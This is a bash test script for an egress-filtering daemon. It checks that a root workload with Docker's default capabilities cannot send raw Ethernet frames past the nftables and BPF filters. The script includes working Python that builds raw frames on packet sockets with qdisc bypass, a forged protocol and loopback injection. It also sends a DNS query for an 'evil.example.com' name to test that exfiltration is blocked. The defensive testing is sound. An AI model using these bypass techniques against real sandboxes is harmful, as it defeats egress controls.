#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# docs/security.md, class 1: a root workload with Docker's default capabilities
# (CAP_NET_RAW, no CAP_NET_ADMIN) writes whole Ethernet/IP/UDP frames on a
# packet socket, around nftables' output hook and the cgroup/skb program.
# Table netdev egressd must drop them, with PACKET_QDISC_BYPASS and a
# forged skb->protocol too, on the veth and on lo, and report a raw_frame
# violation; the kernel's own ARP and the allowed path keep working; an
# interface added later gets its chain. Run in the sidecar topology, with
# BPF judging every packet (host: no chain egress at all) and with
# nftables alone (nohost).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/sidecar.sh"
sidecar_init
egit_require_dnslib

# Docker's default capability set for the app container.
DOCKER_CAPS=+chown,+dac_override,+fowner,+fsetid,+kill,+setgid,+setuid,+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod,+audit_write,+setfcap

# raw_frame IFNAME DMAC DST DPORT PAYLOAD [bypass] [proto]: one Ethernet/
# IPv4/UDP frame written on an AF_PACKET socket by the workload, root
# with Docker's capabilities. proto is the sll_protocol the socket hands
# the kernel (skb->protocol), not what the frame says. Prints "sent" or
# the error.
raw_frame() {
	run_workload setpriv --bounding-set=-all,$DOCKER_CAPS --inh-caps=-all -- \
		"$PY" - "$@" <<'PY'
import socket, struct, sys
ifname, dmac, dst, dport, payload = sys.argv[1:6]
bypass = len(sys.argv) > 6 and sys.argv[6] == "bypass"
proto = int(sys.argv[7], 0) if len(sys.argv) > 7 else 0x0800
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
if bypass:
    s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
s.bind((ifname, 0))
smac = s.getsockname()[4]
src = sys.argv[8] if len(sys.argv) > 8 else "0.0.0.0"
data = payload.encode()
udp = struct.pack("!HHHH", 40001, int(dport), 8 + len(data), 0) + data
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
frame = bytes.fromhex(dmac.replace(":", "")) + smac + b"\x08\x00" + ip + udp
try:
    s.sendto(frame, (ifname, proto))
    print("sent")
except OSError as e:
    print("refused", e.errno)
PY
}

# raw_dns IFNAME DMAC DST NAME: a DNS query for NAME in a raw frame.
raw_dns() {
	run_workload setpriv --bounding-set=-all,$DOCKER_CAPS --inh-caps=-all -- \
		"$PY" - "$@" "$SB4" <<'PY'
import socket, struct, sys
from dnslib import DNSRecord
ifname, dmac, dst, name, src = sys.argv[1:6]
q = DNSRecord.question(name).pack()
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    return ~(s + (s >> 16)) & 0xffff
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind((ifname, 0))
udp = struct.pack("!HHHH", 40002, 53, 8 + len(q), 0) + q
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 2, 0, 64, 17, 0,
                 socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
for bypass in (0, 1):
    s.setsockopt(263, 20, bypass)
    try:
        s.sendto(bytes.fromhex(dmac.replace(":", "")) + s.getsockname()[4] +
                 b"\x08\x00" + ip + udp, (ifname, 0x0800))
    except OSError:
        pass
PY
}

# A UDP listener in the workload on PORT; its log is $T/lo.log.
lo_listener() {
	: >"$T/lo.log"
	run_workload "$PY" -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.settimeout(4)
try:
    while True:
        print(s.recv(100).decode(errors="replace"), flush=True)
except OSError:
    pass' "$1" >"$T/lo.log" 2>&1 &
	EGIT_PIDS+=("$!")
	sleep 0.3
}

GWMAC=$(ip -n "$NET" -j link show "$VN" | "$PY" -c 'import json,sys; print(json.load(sys.stdin)[0]["address"])')
[ -n "$GWMAC" ] || die "no MAC for $VN"

raw_scenario() {
	local v=$1 want_cov=$2 r n p
	start_upstream
	start_servers web-$v tcp:"$WEB4":80 udp:10.200.$X.81:5000 udp:"$WEB4":5001
	start_egressd_sidecar "$v" --mode dns+nft --rules "$POLICY" ||
		die "$v: egressd exited with status $SC_RC: $(cat "$T/egressd.err")"
	assert_eq "$v: coverage" "$want_cov" "$(status_field coverage.state)"
	assert_eq "$v: table netdev egressd installed" on \
		"$(status_field layers.nft.frames.state)"
	assert_contains "$v: a chain for the veth" \
		"$(nft_sb list table netdev egressd 2>&1)" "chain frames_$VS"
	assert_contains "$v: a chain for lo" \
		"$(nft_sb list table netdev egressd 2>&1)" "chain frames_lo"

	# The attack: frames to a host no rule allows, every way a packet
	# socket can send them.
	raw_frame "$VS" "$GWMAC" 10.200.$X.81 5000 "raw-$v-plain" "" 0x0800 "$SB4" >/dev/null
	raw_frame "$VS" "$GWMAC" 10.200.$X.81 5000 "raw-$v-bypass" bypass 0x0800 "$SB4" >/dev/null
	# skb->protocol says ARP, the frame says IPv4 (the peer reads the
	# frame): the chain must not trust skb->protocol.
	raw_frame "$VS" "$GWMAC" 10.200.$X.81 5000 "raw-$v-forged" bypass 0x0806 "$SB4" >/dev/null
	raw_frame "$VS" "$GWMAC" 10.200.$X.81 5000 "raw-$v-all" "" 0x0003 "$SB4" >/dev/null
	# Even to an allowed, learned address: a packet socket is no way out.
	q @"$DNS4" api.github.com
	raw_frame "$VS" "$GWMAC" "$WEB4" 5001 "raw-$v-learned" "" 0x0800 "$SB4" >/dev/null
	raw_dns "$VS" "$GWMAC" "$DNS4" "raw-$v.evil.example.com"
	sleep 0.5
	for n in plain bypass forged all learned; do
		if server_got "web-$v" "raw-$v-$n"; then
			fail "$v: raw frame ($n) never arrives" "the server got it"
		else
			pass "$v: raw frame ($n) never arrives"
		fi
	done
	assert_not_forwarded "$v: a denied name in a raw frame never at the upstream" \
		"raw-$v.evil.example.com"
	wait_json_line "$v: violation line for the raw frame" "$T/egressd.out" \
		event=violation layer=packet reason=raw_frame dst=10.200.$X.81 dport=5000 action=drop
	wait_json_line "$v: violation line for the raw DNS query" "$T/egressd.out" \
		event=violation layer=packet reason=raw_frame dst="$DNS4" dport=53
	r=$(nft_sb list counter netdev egressd raw_frame_drop 2>/dev/null |
		awk '$1 == "packets" { print $2; exit }')
	if [ "${r:-0}" -ge 7 ]; then
		pass "$v: raw_frame_drop counted every frame"
	else
		fail "$v: raw_frame_drop counted every frame" "packets ${r:-none}, want >= 7"
	fi

	# Frames written on lo come back in as received packets: the way a
	# forged "upstream" answer to the sandbox's own address was injected
	# (docs/security.md, class 2). Dropped as well.
	lo_listener 5555
	raw_frame lo 00:00:00:00:00:00 "$SB4" 5555 "raw-$v-lo" "" 0x0800 "$DNS4" >/dev/null
	raw_frame lo 00:00:00:00:00:00 "$SB4" 5555 "raw-$v-lo-bypass" bypass 0x0800 "$DNS4" >/dev/null
	run_workload "$PY" -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"lo-ok", ("127.0.0.1", 5555))'
	sleep 0.3
	assert_contains "$v: loopback datagrams still arrive" "$(cat "$T/lo.log")" "lo-ok"
	assert_not_contains "$v: raw frames on lo never arrive" "$(cat "$T/lo.log")" "raw-$v-lo"

	# The allowed path, with the kernel's own ARP through the chain.
	ip -n "$SB" neigh flush dev "$VS"
	assert_connects "$v: learned address reachable (fresh ARP)" "$WEB4" 80
	udp_send "$WEB4" 5001 "sock-$v-learned"
	sleep 0.3
	if server_got "web-$v" "sock-$v-learned"; then
		pass "$v: UDP from a socket to a learned address arrives"
	else
		fail "$v: UDP from a socket to a learned address arrives" "the server did not get it"
	fi
	assert_blocked "$v: TCP to a non-allowed address still blocked" 10.200.$X.81 80

	# An interface that appears later (the runtime adds one) gets a chain.
	ip link add "egx$EGIT_ID" netns "$SB" type veth peer name "egy$EGIT_ID" netns "$NET" ||
		die "veth egx$EGIT_ID"
	if wait_for 3 sh -c "nsenter --net=/run/netns/$SB nft list table netdev egressd 2>/dev/null | grep -q 'chain frames_egx$EGIT_ID '"; then
		pass "$v: a link added later gets its chain"
	else
		fail "$v: a link added later gets its chain" "$(nft_sb list table netdev egressd 2>&1 | grep chain)"
	fi
	ip -n "$SB" link del "egx$EGIT_ID"
	if wait_for 3 sh -c "! nsenter --net=/run/netns/$SB nft list table netdev egressd 2>/dev/null | grep -q 'chain frames_egx$EGIT_ID '"; then
		pass "$v: and loses it when it goes"
	else
		fail "$v: and loses it when it goes" "still listed"
	fi

	stop_egressd
	# Fail closed: the table outlives egressd.
	raw_frame "$VS" "$GWMAC" 10.200.$X.81 5000 "raw-$v-stopped" "" 0x0800 "$SB4" >/dev/null
	sleep 0.3
	if server_got "web-$v" "raw-$v-stopped"; then
		fail "$v: after a clean stop, raw frames still dropped" "the server got it"
	else
		pass "$v: after a clean stop, raw frames still dropped"
	fi
	nsenter --net="/run/netns/$SB" -- "$EGRESSD" --cleanup >/dev/null 2>"$T/cleanup.err"
	assert_eq "$v: --cleanup exits 0" 0 "$?"
	assert_eq "$v: no table netdev egressd after --cleanup" 0 \
		"$(nft_tables_named egressd netdev)"
	# Servers and upstream go, so that the next variant can bind again.
	for p in "${EGIT_PIDS[@]}"; do stop_pid "$p"; done
	EGIT_PIDS=()
}

raw_scenario host namespace
raw_scenario nohost none
egit_finish
